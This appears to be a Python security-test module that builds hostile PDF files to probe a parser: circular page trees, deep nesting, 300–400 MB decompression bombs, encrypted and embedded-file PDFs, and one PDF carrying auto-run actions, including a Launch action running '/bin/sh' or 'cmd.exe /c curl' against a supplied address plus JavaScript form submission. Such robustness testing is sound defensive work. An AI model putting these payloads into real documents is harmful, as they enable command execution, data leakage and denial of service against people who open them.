"""PDF files that lie about themselves, turn in circles, or act."""

import zlib
from collections.abc import Callable, Iterator

from fpdf import FPDF

from tests.security.hostile.attack import HIDDEN, Attack, lazily, rendered

CONTENT = b"BT /F1 12 Tf 20 20 Td (seen) Tj ET"


def file_of(objects: dict[int, bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """Return a PDF of these objects, with an honest table of them."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, content in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    size = max(objects) + 1
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 %b \n" % (offsets.get(n, 0), b"n" if n in offsets else b"f") for n in range(1, size))
    return bytes(out) + b"trailer << /Size %d %b >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, table)


def stream(content: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), dictionary, content)


def one_page(
    *, catalog: bytes = b"", page: bytes = b"", content: bytes = CONTENT, pages: bytes = b"/Kids [3 0 R] /Count 1",
    box: bytes = b"0 0 200 200", filters: bytes = b"", more: dict[int, bytes] | None = None, trailer: bytes = b"/Root 1 0 R",
) -> bytes:  # fmt: skip
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog,
        2: b"<< /Type /Pages %b >>" % pages,
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [%b] /Contents 4 0 R %b "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>" % (box, page),
        4: stream(content, filters),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    return file_of(objects | (more or {}), trailer)


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(6, 6 + count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    return one_page(pages=b"/Kids [%b] /Count %d" % (kids, count), more=dict.fromkeys(range(6, 6 + count), page))


def _blanks(size: int) -> bytes:
    squeeze = zlib.compressobj(9)
    return b"".join(squeeze.compress(b" " * 1_000_000) for _ in range(size // 1_000_000)) + squeeze.flush()


def _locked() -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text=HIDDEN)
    pdf.set_encryption(owner_password="o", user_password="u")
    return bytes(pdf.output())


def _acting(address: str) -> bytes:
    uri = address.encode()
    actions = (
        b"<< /S /JavaScript /JS (app.launchURL\\('%b'\\); this.submitForm\\('%b'\\)) >>" % (uri, uri),
        b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c curl %b) >> >>" % uri,
        b"<< /S /URI /URI (%b) >>" % uri,
        b"<< /S /GoToR /F << /FS /URL /F (%b) >> /D [0 /Fit] >>" % uri,
        b"<< /S /SubmitForm /F << /FS /URL /F (%b) >> >>" % uri,
        b"<< /S /ImportData /F (%b) >>" % uri,
    )
    names = b" ".join(b"(a%d) %b" % (number, action) for number, action in enumerate(actions))
    catalog = b"/OpenAction %b /Names << /JavaScript << /Names [%b] >> >> /AA << /WC %b >>" % (actions[0], names, actions[1])
    page = b"/AA << /O %b /C %b >>" % (actions[1], actions[0])
    external = stream(b"", b"/F << /FS /URL /F (%b) >>" % uri)
    return one_page(catalog=catalog, page=page, content=CONTENT + b" /X Do", more={6: external})


def attacks() -> Iterator[Attack]:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R /Y 7 0 R >> >>"
    files: dict[str, Callable[[], bytes]] = {
        "a password": _locked,
        "pages in a circle": lambda: one_page(more={3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"}),
        "pages that are their own parents": lambda: one_page(pages=b"/Parent 2 0 R /Kids [2 0 R 2 0 R] /Count 2"),
        "two billion pages, it says": lambda: one_page(pages=b"/Kids [3 0 R] /Count 2147483647"),
        "fewer than no pages": lambda: one_page(pages=b"/Kids [3 0 R] /Count -1"),
        "10,000 pages": lambda: _many_pages(10_000),
        "an endless page": lambda: one_page(box=b"0 0 1e38 1e38"),
        "a page of no numbers": lambda: one_page(box=b"/a (b) [] null"),
        "arrays nested 100,000 deep": lambda: one_page(catalog=b"/X " + b"[" * 100_000 + b"]" * 100_000),
        "dictionaries nested 100,000 deep": lambda: one_page(catalog=b"/X " + b"<< /A " * 100_000 + b">>" * 100_000),
        "blocks nested 100,000 deep in a page": lambda: one_page(content=b"q " * 100_000 + b"[" * 100_000 + CONTENT),
        "a stream that unpacks to 300 MB": lambda: one_page(content=_blanks(300_000_000), filters=b"/Filter /FlateDecode"),
        "a stream packed twice": lambda: one_page(
            content=zlib.compress(_blanks(400_000_000)), filters=b"/Filter [/FlateDecode /FlateDecode]"
        ),
        "a thousand filters": lambda: one_page(filters=b"/Filter [" + b"/ASCIIHexDecode " * 1000 + b"]"),
        "a form in itself": lambda: one_page(content=CONTENT + b" /X Do", more={6: stream(b"/X Do /X Do", form)}),
        "forms in each other": lambda: one_page(
            content=b"/X Do", more={6: stream(b"/Y Do " * 10, form), 7: stream(b"/X Do " * 10 + CONTENT, form)}
        ),
        "an object that is its own length": lambda: one_page(more={4: b"<< /Length 4 0 R >>\nstream\n" + CONTENT + b"\nendstream"}),
        "a font in itself": lambda: one_page(
            more={5: b"<< /Type /Font /Subtype /Type0 /DescendantFonts [5 0 R] /ToUnicode 5 0 R >>"}
        ),
        "streams of objects in a circle": lambda: one_page(
            more={
                6: stream(b"7 0 << >>", b"/Type /ObjStm /N 1 /First 4 /Extends 7 0 R"),
                7: stream(b"6 0 << >>", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R"),
            }
        ),
        "a table that comes before itself": lambda: one_page(trailer=b"/Root 1 0 R /Prev 0 /XRefStm 9"),
        "a table at no place": lambda: rendered().replace(b"startxref\n", b"startxref\n99999999999"),
        "an embedded file": lambda: one_page(
            catalog=b"/Names << /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (x) /EF << /F 6 0 R >> >>] >> >>",
            more={6: stream(HIDDEN.encode(), b"/Type /EmbeddedFile")},
        ),
        "no objects": lambda: b"%PDF-1.7\n%%EOF",
        "only zeros": lambda: b"%PDF-1.7\n" + bytes(1_000_000),
        "a font without end": lambda: one_page(content=b"BT /F1 1e30 Tf (" + b"A" * 1_000_000 + b") Tj ET"),
    }
    for name, write in files.items():
        yield Attack(f"pdf: {name}", "report.pdf", lazily(write))
    yield Attack("pdf: actions", "report.pdf", _acting)
